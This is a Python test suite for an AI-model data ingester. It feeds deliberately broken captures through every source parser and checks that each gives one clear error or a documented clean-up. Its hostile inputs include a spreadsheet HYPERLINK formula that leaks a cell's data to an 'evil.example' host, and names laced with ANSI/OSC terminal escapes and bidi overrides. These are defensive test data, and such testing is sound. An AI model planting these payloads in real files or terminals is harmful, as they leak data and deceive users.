"""Bad input, for every source: each gives one clear line (IngestError) or a documented clean-up, never
partial rows or a traceback.

Inputs are generated here, per format, from three small models, then broken one way at a time: an empty
body, a body cut short, the wrong kind of document (HTML for JSON, JSON for CSV), a renamed column, a
model listed twice, a score that is not a number, absurd values (1e40 FLOP, negative parameters, a
release in 2099), a 1 MB name, control characters and ANSI escapes in a name, bytes that are not UTF-8,
and a spreadsheet formula as a name. Every case goes through `parse` (pure: the exact message) and
through the Ingestor (the stored capture is kept byte for byte, a failed capture loads nothing and is
recorded with one line, a clean one loads cleaned names).

Documented clean-ups (no error): control characters and escape sequences are removed from names
(ingest/base.py `clean_name`); a formula in a name is data, kept verbatim, and neutralised when written to
a CSV file (flop_tracker/dataset_files.py); a model repeated identically is one observation (LMArena); a
feed repeating a post keeps the first; the Open LLM Leaderboard's non-positive "#Params (B)" is its
sentinel for unknown. Where one name legitimately names two rows (real Epoch and LifeArchitect exports
do this), DUPLICATES says why. What a parser still accepts silently is listed in GAPS, each an expected
failure (strict) that states the behaviour wanted.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime

import pytest
from rich.console import Console

from flop_tracker.dataset_files import COLUMNS, render_csv
from flop_tracker.pipeline import IngestSummary
from ingest import captures as capture_store
from ingest.base import CaptureMeta, IngestError, clean_name
from ingest.epoch import CONTRACTS as EPOCH_CONTRACTS
from ingest.registry import SOURCES
from ingest.runner import Ingestor
from kernel.paths import Paths
from kernel.text import clean_terminal, neutralise_formula

CAPTURED_AT = datetime(2025, 6, 1, 12, 0)
MODELS = (
    {"name": "Alpha-70B", "org": "Lab A", "score": 1250.5, "params": 7e10, "flop": 6.3e24, "date": "2024-05-01"},
    {"name": "Beta-8B", "org": "Lab B", "score": 1180.0, "params": 8e9, "flop": 7.2e23, "date": "2024-07-15"},
    {"name": "Gamma-405B", "org": "Lab C", "score": 1290.25, "params": 4.05e11, "flop": 3.8e25, "date": "2024-12-01"},
)
EVIL = "Evil\x1b[31m\x1b]8;;http://x.example\x07-7B\x1b[0m\x07\x00\u202e\r\n"  # -> "Evil-7B"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HUGE = "A" * 1_000_000
HTML_PAGE = "<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>Checking</body></html>"
JSON_ERROR = '{"error": "rate limited", "status": 429}'


def csv_text(header: list[str], rows: list[list[object]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
    return buffer.getvalue()


def billions(value: object) -> object:
    return value / 1e9 if isinstance(value, float) else value


def rfc822(day: object) -> str:
    try:
        return datetime.fromisoformat(str(day)).strftime("%a, %d %b %Y 12:00:00 GMT")
    except ValueError:
        return str(day)


def month_year(day: object) -> str:
    try:
        return datetime.fromisoformat(str(day)).strftime("%b/%Y")
    except ValueError:
        return str(day)


# -- one renderer per format: rows (dicts as in MODELS, values possibly broken) -> document text ----
def lmarena_csv(rows: list[dict]) -> str:
    return csv_text(
        ["rank", "model", "arena_score", "95_pct_ci", "votes", "organization", "license"],
        [[i, r["name"], r["score"], "+5/-5", 1000, r["org"], "Proprietary"] for i, r in enumerate(rows, 1)],
    )


def lmarena_catalog(rows: list[dict]) -> str:
    # written by hand: a repeated key in a JSON object is legal JSON, and json.dumps cannot write one
    entries = [
        f'{json.dumps(r["name"], ensure_ascii=False)}: {{"rating": {json.dumps(r["score"])}, "rating_q025": 1}}'
        for r in rows
    ]
    return '{"text": {' + ", ".join(entries) + "}}"


def lmarena_history(rows: list[dict]) -> str:
    day = rows[0]["date"]
    return csv_text(["", *[r["name"] for r in rows]], [[day, *[r["score"] for r in rows]]])


EPOCH_COLUMNS = ["Model", "Organization", "Publication date", "Parameters", "Training compute (FLOP)", "Confidence"]
# The Large-Scale export's other expected columns, blank here (without them the load is `degraded`).
EPOCH_BLANK = [
    c.label
    for c in EPOCH_CONTRACTS["large_scale_ai_models"].columns
    if c.need == "expected" and c.label not in EPOCH_COLUMNS
]


def epoch_csv(rows: list[dict]) -> str:
    return csv_text(
        EPOCH_COLUMNS + EPOCH_BLANK,
        [[r["name"], r["org"], r["date"], r["params"], r["flop"], "Confident"] + [""] * len(EPOCH_BLANK) for r in rows],
    )


def previous_scraped(rows: list[dict]) -> str:
    doc = {
        "metadata": {"source": "lmarena", "saved_at": f"{rows[0]['date']}T00:00:00"},
        "models": [
            {
                "name": r["name"],
                "developer": r["org"],
                "benchmarks": {"lmarena_elo": r["score"]},
                "parameters": r["params"],
                "training_flop": r["flop"],
            }
            for r in rows
        ],
    }
    return json.dumps(doc, ensure_ascii=False)


def previous_csv(rows: list[dict]) -> str:
    return csv_text(
        ["model", "developer", "release_date", "parameters", "training_flop", "threshold_classification", "verified"],
        [[r["name"], r["org"], r["date"], r["params"], r["flop"], "uncertain", ""] for r in rows],
    )


def openlm_page(rows: list[dict]) -> str:
    cells = "".join(
        f"<tr><td>{html.escape(str(r['name']))}</td><td>{html.escape(str(r['score']))}</td>"
        f"<td>{html.escape(str(r['org']))}</td><td>{1000 + i}</td></tr>"
        for i, r in enumerate(rows)
    )
    return (
        "<html><body><p>Attribution LMSYS . July 1, 2025</p><table>"
        "<tr><th>Model</th><th>Arena Elo</th><th>Organization</th><th>Votes</th></tr>"
        + cells
        + "</table></body></html>"
    )


def openlm_previous(rows: list[dict]) -> str:
    doc = {
        "metadata": {"source": "openlm_arena", "model_count": len(rows), "last_updated": rows[0]["date"]},
        "models": [
            {"name": r["name"], "developer": r["org"], "benchmarks": {"openlm_arena_elo": r["score"]}} for r in rows
        ],
    }
    return json.dumps(doc, ensure_ascii=False)


def hf_api(rows: list[dict]) -> str:
    docs = [
        {
            "id": f"lab/{r['name']}",
            "author": "lab",
            "safetensors": {"total": r["params"]},
            "config": {"model_type": "llama", "hidden_size": 4096, "num_hidden_layers": 32},
            "createdAt": f"{r['date']}T00:00:00.000Z",
        }
        for r in rows
    ]
    return json.dumps(docs, ensure_ascii=False)


def hf_llmfit(rows: list[dict]) -> str:
    return json.dumps(
        [
            {"name": f"lab/{r['name']}", "parameters_raw": r["params"], "release_date": r["date"], "architecture": "x"}
            for r in rows
        ],
        ensure_ascii=False,
    )


def open_llm_csv(rows: list[dict]) -> str:
    return csv_text(
        ["eval_name", "fullname", "Precision", "#Params (B)", "Average ⬆️", "MoE", "Upload To Hub Date"],
        [
            [
                f"lab_{r['name']}_bf16",
                f"lab/{r['name']}",
                "bfloat16",
                billions(r["params"]),
                r["score"],
                "False",
                r["date"],
            ]
            for r in rows
        ],
    )


def aa_csv(rows: list[dict]) -> str:
    return csv_text(
        ["API Provider", "Model", "Context Window", "Artificial Analysis Intelligence Index", "MMLU-Pro (Reasoning)"],
        [[r["org"], r["name"], "128k", r["score"], "80%"] for r in rows],
    )


def lifearchitect_csv(rows: list[dict]) -> str:
    return csv_text(
        ["Model", "Lab", "Parameters (B)", "Tokens trained (B)", "Ratio Tokens:Params", "MMLU", "Announced", "Arch"],
        [
            [r["name"], r["org"], billions(r["params"]), 15000, "20:1", r["score"], month_year(r["date"]), "Dense"]
            for r in rows
        ],
    )


def rss(rows: list[dict]) -> str:
    items = "".join(
        f"<item><title>Introducing {html.escape(str(r['name']))}</title>"
        f"<link>https://lab.example/news/{zlib.crc32(str(r['name']).encode())}</link><pubDate>{rfc822(r['date'])}</pubDate>"
        f"<description>{html.escape(str(r['name']))} has {billions(r['params'])}B parameters and was trained "
        f"with {r['flop']} FLOPs.</description></item>"
        for i, r in enumerate(rows)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Lab News</title>'
        + items
        + "</channel></rss>"
    )


def hub_list(rows: list[dict]) -> str:
    return json.dumps(
        [{"id": f"lab/{r['name']}", "createdAt": f"{r['date']}T00:00:00.000Z", "pipeline_tag": "text"} for r in rows],
        ensure_ascii=False,
    )


MANUAL_COLUMNS = [
    "API Provider",
    "Model",
    "Context Window",
    "Artificial Analysis Intelligence Index",
    "MMLU-Pro (Reasoning & Knowledge)",
    "GPQA Diamond (Scientific Reasoning)",
    "Humanity's Last Exam (Reasoning & Knowledge)",
    "LiveCodeBench (Coding)",
    "AIME 2025 (Competition Math)",
    "Blended USD/1M Tokens",
    "Median Tokens/s",
]


def manual_csv(rows: list[dict]) -> str:
    return csv_text(
        MANUAL_COLUMNS,
        [[r["org"], r["name"], "128k", r["score"], "80%", "60%", "10%", "50%", "70%", "$1.00", "100"] for r in rows],
    )


# -- formats and how each is broken ----------------------------------------------------------------
@dataclass(frozen=True)
class Fmt:
    id: str
    source: str
    filename: str
    kind: str  # csv | json | html | xml: decides how the body is cut short
    render: Callable[[list[dict]], str]
    numbers: tuple[str, ...]  # number fields of MODELS this format carries, the first is made not a number
    dated: bool  # carries a release/snapshot date that is checked
    rename: tuple[str, str] | None  # a text replacement that renames a required column away
    wrong: str  # a document of the wrong kind for this format


FORMATS = (
    Fmt(
        "lmarena-csv",
        "lmarena",
        "lmarena_text_2025-06-01.csv",
        "csv",
        lmarena_csv,
        ("score",),
        False,
        ("arena_score", "score"),
        JSON_ERROR,
    ),
    Fmt(
        "lmarena-catalog",
        "lmarena",
        "leaderboard-text.json",
        "json",
        lmarena_catalog,
        ("score",),
        False,
        ('"rating"', '"elo"'),
        HTML_PAGE,
    ),
    Fmt("lmarena-history", "lmarena", "elo_history.csv", "csv", lmarena_history, ("score",), True, None, JSON_ERROR),
    Fmt(
        "epoch-csv",
        "epoch",
        "large_scale_ai_models_2025-06-01.csv",
        "csv",
        epoch_csv,
        ("flop", "params"),
        True,
        ("Training compute (FLOP)", "Compute"),
        HTML_PAGE,
    ),
    Fmt(
        "previous-scraped",
        "previous_system",
        "lmarena_scraped.json",
        "json",
        previous_scraped,
        ("score", "params", "flop"),
        True,
        ('"models"', '"entries"'),
        HTML_PAGE,
    ),
    Fmt(
        "previous-csv",
        "previous_system",
        "above_1e25_flop.csv",
        "csv",
        previous_csv,
        ("flop", "params"),
        True,
        ("threshold_classification", "classification"),
        JSON_ERROR,
    ),
    Fmt(
        "openlm-page",
        "openlm",
        "chatbot-arena.html",
        "html",
        openlm_page,
        ("score",),
        False,
        ("Arena Elo", "Rating"),
        JSON_ERROR,
    ),
    Fmt(
        "openlm-previous",
        "openlm",
        "openlm_arena_parsed.json",
        "json",
        openlm_previous,
        ("score",),
        True,
        ('"name"', '"title"'),
        HTML_PAGE,
    ),
    Fmt(
        "huggingface-api",
        "huggingface",
        "api_models.json",
        "json",
        hf_api,
        ("params",),
        True,
        ('"id"', '"repo"'),
        HTML_PAGE,
    ),
    Fmt(
        "huggingface-llmfit",
        "huggingface",
        "hf_models_param_counts.json",
        "json",
        hf_llmfit,
        ("params",),
        True,
        ('"parameters_raw"', '"params"'),
        HTML_PAGE,
    ),
    Fmt(
        "open-llm-leaderboard",
        "open_llm_leaderboard",
        "open_llm_leaderboard_v2.csv",
        "csv",
        open_llm_csv,
        ("score", "params"),
        True,
        ("#Params (B)", "Size"),
        JSON_ERROR,
    ),
    Fmt(
        "artificial-analysis",
        "artificial_analysis",
        "leaderboard_2025-06-01.csv",
        "csv",
        aa_csv,
        ("score",),
        False,
        ("API Provider", "Host"),
        JSON_ERROR,
    ),
    Fmt(
        "lifearchitect",
        "lifearchitect",
        "models_table_2025-06.csv",
        "csv",
        lifearchitect_csv,
        ("score", "params"),
        True,
        ("Parameters (B)", "Size (B)"),
        HTML_PAGE,
    ),
    Fmt(
        "announcements-rss",
        "announcements",
        "news.xml",
        "xml",
        rss,
        ("params", "flop"),
        True,
        ("link>", "href>"),
        JSON_ERROR,
    ),
    Fmt(
        "announcements-hub",
        "announcements",
        "hub_models.json",
        "json",
        hub_list,
        (),
        True,
        ('"id"', '"repo"'),
        HTML_PAGE,
    ),
    Fmt(
        "manual-csv",
        "manual",
        "artificial_analysis__leaderboard_2025-06-01.csv",
        "csv",
        manual_csv,
        ("score",),
        False,
        ("Artificial Analysis Intelligence Index", "Index"),
        JSON_ERROR,
    ),
)
MUTATIONS = (
    "empty",
    "truncated",
    "wrong_kind",
    "renamed_column",
    "duplicate_same",
    "duplicate_different",
    "not_a_number",
    "flop_1e40",
    "negative_parameters",
    "date_2099",
    "huge_name",
    "control_characters",
    "not_utf8",
    "formula",
)


def cut_short(text: str, kind: str) -> str:
    """The body as a dropped connection leaves it: mid-record, where the format can tell."""
    if kind == "csv":
        body = text.rstrip("\n")
        last = body.rfind("\n") + 1
        return body[: (last + len(body)) // 2]
    if kind == "html":
        return text[: text.rfind("<tr>") + 12]
    return text[: len(text) // 2]


def mutate(fmt: Fmt, mutation: str) -> bytes | None:
    """The broken capture, or None where the format carries nothing to break that way."""
    rows = [dict(m) for m in MODELS]
    last = rows[-1]
    if mutation == "empty":
        return b""
    if mutation == "truncated":
        return cut_short(fmt.render(rows), fmt.kind).encode()
    if mutation == "wrong_kind":
        return fmt.wrong.encode()
    if mutation == "renamed_column":
        return fmt.render(rows).replace(*fmt.rename).encode() if fmt.rename else None
    if mutation == "duplicate_same":
        rows.append(dict(rows[0]))
    elif mutation == "duplicate_different":
        rows.append({**rows[0], "score": 999.5, "params": 9e10, "flop": 9e24})
    elif mutation == "not_a_number":
        if not fmt.numbers:
            return None
        last[fmt.numbers[0]] = "twelve"
    elif mutation == "flop_1e40":
        if "flop" not in fmt.numbers:
            return None
        last["flop"] = 1e40
    elif mutation == "negative_parameters":
        if "params" not in fmt.numbers:
            return None
        last["params"] = -7e10
    elif mutation == "date_2099":
        if not fmt.dated:
            return None
        for row in rows:
            row["date"] = "2099-01-01"
    elif mutation == "huge_name":
        last["name"] = HUGE
    elif mutation == "control_characters":
        last["name"] = EVIL
    elif mutation == "not_utf8":
        last["name"] = "Café-7B"
        return fmt.render(rows).encode().replace("é".encode(), b"\xe9")
    elif mutation == "formula":
        last["name"] = FORMULA
    return fmt.render(rows).encode()


def meta_for(fmt: Fmt) -> CaptureMeta:
    return CaptureMeta(origin=f"/captures/{fmt.source}/{fmt.filename}", captured_at=CAPTURED_AT, filename=fmt.filename)


# -- what each case must come to -------------------------------------------------------------------
# The one-line error (a regex on IngestError's message) for cases that fail the same way in every format.
COMMON_ERRORS = {
    "empty": r"^file is empty$",
    "not_utf8": r"^not UTF-8 \(byte 0xe9 at offset \d+\)$",
    "not_a_number": r"'twelve'.* not a (whole )?number",
    "flop_1e40": r"^row 3 \('Gamma-405B'\): field \w+: compute must be >= 0 and < 1e32 FLOP \(got 1e\+40\)$",
    "negative_parameters": r"^row 3 \('(lab/)?Gamma-405B'\): field \w+: "
    r"parameters must be > 0 and < 1e15 \(got -7e\+10\)$",
    "date_2099": r"^row 1 \('[^']+'\): field \w+: date 2099-01-01 is more than a year in the future$",
    "huge_name": r"(^row 3 \('(lab/|Introducing )?A+…'\): field \w+: name is 10000\d\d characters long \(at most 300\)"
    r"|^malformed CSV( at line 4)?: field larger than field limit \(131072\))$",
}
CUT_CSV = r"(line 4|CSV line 4) has \d fields, header has \d+ \(truncated\?\)$"
BAD_JSON = r"^invalid JSON at line 1 column \d+ \(truncated\?\)$"
# Per format: the errors that name the format's own structure.
ERRORS: dict[str, dict[str, str]] = {
    "lmarena-csv": {
        "truncated": CUT_CSV,
        "wrong_kind": r"^category 'error' is not an object of models$",
        "renamed_column": r"^unrecognised CSV columns \(expected arena_score/model, .*\): rank, model, score,",
        "duplicate_different": r"^model 'Alpha-70B' appears twice with different values$",
    },
    "lmarena-catalog": {
        "truncated": BAD_JSON,
        "wrong_kind": r"^HTML without window.gradio_config: not an LMArena leaderboard page$",
        "renamed_column": r"^missing required column 'rating': not an LMArena leaderboard JSON; columns found: elo, "
        r"rating_q025$",
        "not_a_number": r"^row 3 \('Gamma-405B'\): field score: Input should be a valid number",
        "duplicate_different": r"^model '.+' appears twice with different values$",
    },
    "lmarena-history": {
        "truncated": r"^CSV line 2 has 2 fields, header has 4",
        "wrong_kind": r"^category 'error'",
        "duplicate_different": r"^model '.+' appears twice with different values$",
    },
    "epoch-csv": {
        "truncated": r"^line 4 \('Gamma-405B'\): row ends before column 'Training compute \(FLOP\)' \(truncated\?\)$",
        "wrong_kind": r"^expected an Epoch CSV export, got HTML or JSON$",
        "renamed_column": r"^missing required column 'Training compute \(FLOP\)': not an Epoch export; columns found: ",
    },
    "previous-scraped": {
        "truncated": BAD_JSON,
        "wrong_kind": r"^expected the previous system's scraped JSON object or one of its CSV files$",
        "renamed_column": r"^JSON has no 'models' list: not one of the previous system's scraped files$",
    },
    "previous-csv": {
        "truncated": r"^line 4: fewer fields than the header \(truncated\?\)$",
        "wrong_kind": r"^JSON has no 'models' list",
        "renamed_column": r"^unrecognised CSV columns \(expected the old system's model/training_flop/",
    },
    "openlm-page": {
        "truncated": r"^table row 4 has 1 cells, header has 4 \(truncated\?\)$",
        "wrong_kind": r"^JSON without a 'models' list: not the previous system's OpenLM Arena parse$",
        "renamed_column": r"^no table with Model and Arena Elo columns: not the OpenLM Chatbot Arena leaderboard$",
    },
    "openlm-previous": {
        "truncated": BAD_JSON,
        "wrong_kind": r"^HTML page without a table: not the OpenLM Chatbot Arena leaderboard$",
        "renamed_column": r"^model 1 has no name$",
    },
    "huggingface-api": {
        "truncated": BAD_JSON,
        "wrong_kind": r"^expected a Hugging Face API document or model list \(JSON\), got something else$",
        "renamed_column": r"^JSON list is neither Hub API documents \('id'\) nor a parameter list",
        "duplicate_same": r"^repository 'lab/Alpha-70B' appears twice$",
        "duplicate_different": r"^repository 'lab/Alpha-70B' appears twice$",
        "not_a_number": r"safetensors.total '.*' is not a whole number$",
    },
    "huggingface-llmfit": {
        "truncated": BAD_JSON,
        "wrong_kind": r"^expected a Hugging Face API document",
        "renamed_column": r"^JSON list is neither Hub API documents \('id'\) nor a parameter list",
        "duplicate_same": r"^repository 'lab/Alpha-70B' appears twice$",
        "duplicate_different": r"^repository 'lab/Alpha-70B' appears twice$",
    },
    "open-llm-leaderboard": {
        "truncated": r"^line 4: row ends early \(truncated\?\)$",
        "wrong_kind": r"^expected the Open LLM Leaderboard CSV dump, got HTML or JSON$",
        "renamed_column": r"^missing required column '#Params \(B\)': not an Open LLM Leaderboard dump; columns found: "
        r"eval_name, fullname, Precision, Size, ",
        "duplicate_same": r"^line 5: eval_name 'lab_Alpha-70B_bf16' appears twice$",
        "duplicate_different": r"^line 5: eval_name 'lab_Alpha-70B_bf16' appears twice$",
    },
    "artificial-analysis": {
        "truncated": CUT_CSV,
        "wrong_kind": r"^expected an Artificial Analysis CSV export, got HTML or JSON$",
        "renamed_column": r"^missing required column 'API Provider': not an Artificial Analysis leaderboard export; "
        r"columns found: Host, Model, ",
        "duplicate_same": r"^line 5: model 'Alpha-70B' from 'Lab A' appears twice$",
        "duplicate_different": r"^line 5: model 'Alpha-70B' from 'Lab A' appears twice$",
    },
    "lifearchitect": {
        "truncated": CUT_CSV,
        "wrong_kind": r"^expected the LifeArchitect models table as CSV, got HTML or JSON$",
        "renamed_column": r"^missing required column 'Parameters': not the LifeArchitect models table; columns found: "
        r"Model, Lab, Size \(B\), ",
    },
    "announcements-rss": {
        "truncated": r"^malformed XML at line 1 column \d+: unclosed token \(truncated\?\)$",
        "wrong_kind": r"^the Hub answered 'rate limited' instead of a model list$",
        "renamed_column": r"^item 1 \('Introducing Alpha-70B'\): an item needs a title and a link$",
        # XML 1.0 forbids these characters (even escaped), so the feed itself is malformed.
        "control_characters": r"^malformed XML at line 1 column \d+: not well-formed \(invalid token\)",
        "not_utf8": r"^malformed XML at line 1 column \d+: not well-formed \(invalid token\)",
    },
    "announcements-hub": {
        "truncated": r"^invalid JSON \(Unterminated string .*\) \(truncated\?\)$",
        "wrong_kind": r"^an HTML page, not a feed \(the feed URL may have moved\)$",
        "renamed_column": r"^missing required column 'id' \(or 'modelId'\): not the Hub's model list; columns found: ",
        "not_utf8": r"^invalid JSON \('utf-8' codec can't decode byte 0xe9 .*\) \(truncated\?\)$",
    },
    "manual-csv": {
        "truncated": CUT_CSV,
        "wrong_kind": r"^missing required columns 'Model', 'API Provider', 'Context Window' and 8 more: not the table "
        r"the artificial_analysis map reads; columns found: \{\"error\"",
        "renamed_column": r"^missing required column 'Artificial Analysis Intelligence Index': not the table the "
        r"artificial_analysis map reads",
        "not_a_number": r"^row 3 \('Gamma-405B'\) column 'Artificial Analysis Intelligence Index': 'twelve' is not a",
    },
}
# A model listed twice where that is not an error: how many rows load, and why (the documented clean-up).
DUPLICATES: dict[str, tuple[int, int, str]] = {
    # format: (rows when repeated identically, rows when repeated with other values, why)
    "lmarena-csv": (6, -1, "an identical repeat is one observation (the 2025-08-04 export repeats Yi-34B-Chat)"),
    "lmarena-catalog": (3, -1, "an identical repeated key in a JSON object is the same value (JSON keeps the last)"),
    "lmarena-history": (3, -1, "a model column repeated with the same scores is one model"),
    "epoch-csv": (4, 4, "one name can name two entries (Epoch's all-models export lists AMPLIFY and SigLIP twice)"),
    "previous-scraped": (4, 4, "the old system merged variants under one name; entries are told apart by position"),
    "previous-csv": (4, 4, "rows are told apart by row_number; the old files are a baseline, not truth"),
    "openlm-page": (4, 4, "rows are told apart by their position in the table"),
    "openlm-previous": (4, 4, "the old parse normalised names, so two versions share one; told apart by position"),
    "lifearchitect": (4, 4, "one name can name two entries (the 2025-01 table lists WizardLM and MPT twice)"),
    "announcements-rss": (3, 3, "a feed repeating a post (same link) keeps its first occurrence"),
    "announcements-hub": (3, 3, "a repository listed twice is one release; the first is kept"),
    "manual-csv": (40, 40, "a model has one row per API provider; rows are told apart by row_number"),
}
# Absurd figures in prose are not figures: the announcement patterns read none of them.
PROSE = {
    # "twelveB parameters" is no size; the 405B in the model's name is read instead
    "not_a_number": {"parameters": 4.05e11, "parameters_basis": "name"},
    # compute is read only between 1e20 and 1e30 FLOP
    "flop_1e40": {"training_flop": None},
    # prose has no signed sizes: "-70.0B parameters" reads as the stated 70B
    "negative_parameters": {"parameters": 7e10, "parameters_basis": "stated"},
}


# Documented clean-ups of single values, checked on the parsed record: (field, value it loads as).
CLEANUPS = {
    # "#Params (B)" of -1 or 0 is the dump's sentinel for unknown; any non-positive size loads as unknown
    ("open-llm-leaderboard", "negative_parameters"): ("parameters", None),
}
# Known gaps: the parser accepts these silently. Each test states the behaviour wanted (an IngestError)
# and is expected to fail until the parser changes (strict: fixing one makes its test pass, and the
# entry must then go). They are parser changes, outside the record validators this suite may add.
GAPS = {}


def expected(fmt: Fmt, mutation: str) -> str | None:
    """The error regex for this case, or None where it must load (a documented clean-up)."""
    if mutation in ERRORS.get(fmt.id, {}):
        return ERRORS[fmt.id][mutation]
    if (fmt.id, mutation) in GAPS:
        return r"."  # any one-line error would do
    if (fmt.id, mutation) in CLEANUPS:
        return None
    if mutation in {"control_characters", "formula", "duplicate_same", "duplicate_different"}:
        if mutation == "duplicate_different" and DUPLICATES.get(fmt.id, (0, 0, ""))[1] == -1:
            raise AssertionError(f"{fmt.id}: a duplicate with other values must have an error in ERRORS")
        return None
    if fmt.source == "announcements" and mutation in PROSE:
        return None
    return COMMON_ERRORS[mutation]


CASES = [
    pytest.param(
        fmt,
        m,
        id=f"{fmt.id}-{m}",
        marks=[pytest.mark.xfail(strict=True, reason=f"gap: {GAPS[fmt.id, m]}")] if (fmt.id, m) in GAPS else [],
    )
    for fmt in FORMATS
    for m in MUTATIONS
    if mutate(fmt, m) is not None
]
NOT_CARRIED = {  # source -> mutations none of its formats can express, and why
    "lmarena": {"flop_1e40": "no compute", "negative_parameters": "no parameters"},
    "openlm": {"flop_1e40": "no compute", "negative_parameters": "no parameters"},
    "huggingface": {"flop_1e40": "no compute (parameter counts only)"},
    "open_llm_leaderboard": {"flop_1e40": "no compute"},
    "artificial_analysis": {
        "flop_1e40": "no compute",
        "negative_parameters": "no parameters",
        "date_2099": "dated by the capture only",
    },
    "lifearchitect": {"flop_1e40": "no compute (parameters and tokens)"},
    "manual": {
        "flop_1e40": "the map reads scores and prices",
        "negative_parameters": "the map reads scores and prices",
        "date_2099": "dated by the capture only",
    },
}


def test_every_source_is_broken_every_way_it_can_be():
    for source in SOURCES:
        formats = [f for f in FORMATS if f.source == source]
        assert formats, f"no bad-input formats for source {source}"
        for mutation in MUTATIONS:
            covered = any(mutate(f, mutation) is not None for f in formats)
            assert covered or mutation in NOT_CARRIED.get(source, {}), (source, mutation)


NAME_FIELDS = ("model_name", "display_name", "model_key", "repo_id", "eval_name", "title")


def text_values(parsed) -> list[str]:
    """Every name the parse produced (names are cleaned; other text, e.g. a URL, is shown only through
    clean_terminal and exported only through neutralise_formula)."""
    return [
        value
        for rows in parsed.tables.values()
        for r in rows
        for name in NAME_FIELDS
        if isinstance(value := getattr(r, name, None), str)
    ]


CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")  # names lose bidi overrides too
TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what clean_terminal promises


@pytest.mark.parametrize(("fmt", "mutation"), CASES)
def test_parse_gives_one_clear_line_or_a_documented_clean_up(fmt: Fmt, mutation: str):
    content = mutate(fmt, mutation)
    source = SOURCES[fmt.source]
    want = expected(fmt, mutation)
    if want is not None:
        with pytest.raises(IngestError) as info:
            source.parse(content, meta_for(fmt))
        message = str(info.value)
        assert "\n" not in message and not CONTROL.search(message) and len(message) < 400, message
        assert re.search(want, message), message
        return
    parsed = source.parse(content, meta_for(fmt))
    values = text_values(parsed)
    assert not any(CONTROL.search(v) for v in values)
    if mutation == "control_characters":
        assert any(v in {"Evil-7B", "lab/Evil-7B", "Introducing Evil-7B"} for v in values), values
        assert not any("x.example" in v for v in values)  # the OSC hyperlink went with its escape
    elif mutation == "formula":
        assert any("HYPERLINK(" in v for v in values)  # data is kept; files neutralise it when written
    elif mutation.startswith("duplicate"):
        same, different, _why = DUPLICATES[fmt.id]
        assert parsed.row_count == (same if mutation == "duplicate_same" else different)
    elif (fmt.id, mutation) in CLEANUPS:
        column, value = CLEANUPS[fmt.id, mutation]
        assert getattr(list(parsed.tables.values())[0][-1], column) == value
    elif mutation in PROSE:
        post = {r.model_name: r for r in parsed.tables["announcement_posts"]}["Gamma-405B"]
        assert {k: getattr(post, k) for k in PROSE[mutation]} == PROSE[mutation]


# -- the same cases through the Ingestor: stored as they came, nothing partial, one line ----------
@pytest.fixture(scope="module")
def ingestor(tmp_path_factory: pytest.TempPathFactory):
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("FLOP_TRACKER_DB", raising=False)
        paths = Paths(tmp_path_factory.mktemp("bad_input_data"))
        with Ingestor(paths, list(SOURCES.values())) as ing:
            yield ing


def rows_from(ing: Ingestor, source: str, sha256: str) -> int:
    return sum(
        ing.con.execute(f"select count(*) from raw.{table} where capture_sha256 = ?", [sha256]).fetchone()[0]
        for table in SOURCES[source].tables
    )


@pytest.mark.parametrize(("fmt", "mutation"), CASES)
def test_ingest_stores_the_bytes_and_loads_all_or_nothing(ingestor: Ingestor, fmt: Fmt, mutation: str):
    content = mutate(fmt, mutation)
    source = SOURCES[fmt.source]
    filename = f"{mutation}__{fmt.filename}" if fmt.source != "manual" else fmt.filename
    meta = CaptureMeta(origin=f"/captures/{fmt.id}/{mutation}", captured_at=CAPTURED_AT, filename=filename)
    result = ingestor.ingest_bytes(source, content, meta)
    sha = capture_store.sha256_of(content)
    want = expected(fmt, mutation)
    kept = [
        p for p in (ingestor.paths.raw_dir / fmt.source).rglob(f"*_{sha[:16]}_*") if not p.name.endswith(".meta.json")
    ]
    assert kept and all(p.read_bytes() == content for p in kept)  # the capture, byte for byte
    assert "\x1b" not in result.line and "\n" not in result.line
    if want is not None:
        assert result.status == "failed", result.line
        assert result.message.startswith(f"{filename}: ")
        assert re.search(want, result.message.removeprefix(f"{filename}: ")), result.message
        assert rows_from(ingestor, fmt.source, sha) == 0
        assert any(p.parent.name == "failed" for p in kept)  # quarantined, out of the replay set
    else:
        # degraded: loaded in full without some column these small captures leave out (the parsers' tests
        # check which); loaded all the same, and all of it
        assert result.status in {"ok", "degraded", "unchanged"}, result.line
        assert rows_from(ingestor, fmt.source, sha) == result.rows or result.status == "unchanged"


def test_failures_and_odd_origins_never_reach_the_terminal_raw():
    """An unexpected error's text, or an origin, may carry escapes: the line and the table strip them."""
    from ingest.runner import RunResult

    results = [
        RunResult("lmarena", f"/captures/{EVIL}.csv", "ok", 3),
        RunResult("epoch", "/x.csv", "failed", 0, f"x.csv: unexpected ValueError: {EVIL} \x1b[2J\x1b[H wiped"),
        RunResult("openlm", "https://o.example", "unreachable", 0, f"https://o.example: {EVIL}"),
    ]
    for r in results:
        assert not TERMINAL_CONTROL.search(r.line), repr(r.line)
    out = io.StringIO()
    Console(file=out, width=200, force_terminal=False, color_system=None).print(IngestSummary(results).table())
    assert not TERMINAL_CONTROL.search(out.getvalue()), repr(out.getvalue())
    assert "Evil-7B" in out.getvalue() and "wiped" in out.getvalue()


# -- the clean-ups themselves --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("bell\x07 and nul\x00", "bell and nul"),
        ("osc \x1b]8;;http://x.example\x07link\x1b]8;;\x07", "osc link"),
        ("c1 \x9b31m csi", "c1 31m csi"),
        ("two\nlines\r", "two lines"),
        ("tab\there", "tab\there"),
        ("keep ünïcödé and 中文", "keep ünïcödé and 中文"),
    ],
)
def test_clean_terminal_strips_escapes_and_controls(raw: str, clean: str):
    assert clean_terminal(raw) == clean


def test_clean_terminal_shortens_with_an_ellipsis():
    assert clean_terminal("abcdefghij", 5) == "abcd…"
    assert clean_terminal(None) == ""


def test_clean_name_collapses_whitespace_strips_bidi_and_refuses_huge_names():
